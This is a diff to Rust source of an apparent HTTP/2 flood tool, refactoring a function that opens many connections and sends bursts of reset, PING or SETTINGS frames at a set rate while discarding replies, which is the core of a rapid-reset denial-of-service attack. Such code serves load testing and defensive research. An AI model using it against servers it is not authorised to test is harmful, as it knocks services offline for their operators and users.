@@ -9,13 +9,13 @@ use tokio::{
 
 use super::{
     attack::{Aim, Attack},
-    attacker::{Attacker, Broken},
+    attacker::Broken,
     calls::RANK,
     frames::{HELLO, PING, SETTINGS, headers, reset},
 };
 
 /// What a flood consists of.
-#[derive(Clone, Copy, Debug, PartialEq, Eq)]
+#[derive(Clone, Copy, Debug)]
 pub enum Flood {
     /// Calls that are reset immediately.
     Resets,
@@ -29,12 +29,11 @@ pub enum Flood {
 const BURSTS: u32 = 20;
 
 /// Sends this number of frames per second on each connection.
-#[must_use]
 pub fn flood(aim: &Aim, connections: usize, flood: Flood, per_second: u32) -> Attack {
     Attack::start(aim, connections, move |attacker| async move {
         let (reader, writer) = split(attacker.connect().await?);
         tokio::select! {
-            result = send(attacker, writer, flood, per_second / BURSTS) => result,
+            result = send(writer, flood, per_second / BURSTS) => result,
             result = discard(reader) => result,
         }
     })
@@ -46,12 +45,7 @@ async fn discard(mut reader: impl AsyncRead + Unpin) -> Result<(), Broken> {
     Ok(())
 }
 
-async fn send(
-    attacker: Attacker,
-    mut writer: impl AsyncWrite + Unpin,
-    flood: Flood,
-    burst: u32,
-) -> Result<(), Broken> {
+async fn send(mut writer: impl AsyncWrite + Unpin, flood: Flood, burst: u32) -> Result<(), Broken> {
     writer.write_all(HELLO).await?;
     let mut ticks = interval(Duration::from_secs(1) / BURSTS);
     ticks.set_missed_tick_behavior(MissedTickBehavior::Delay);
@@ -61,9 +55,6 @@ async fn send(
             .flat_map(|number| frames(flood, number))
             .collect();
         writer.write_all(&frames).await?;
-        if flood == Flood::Resets {
-            attacker.count_calls(burst.into());
-        }
     }
     Ok(())
 }
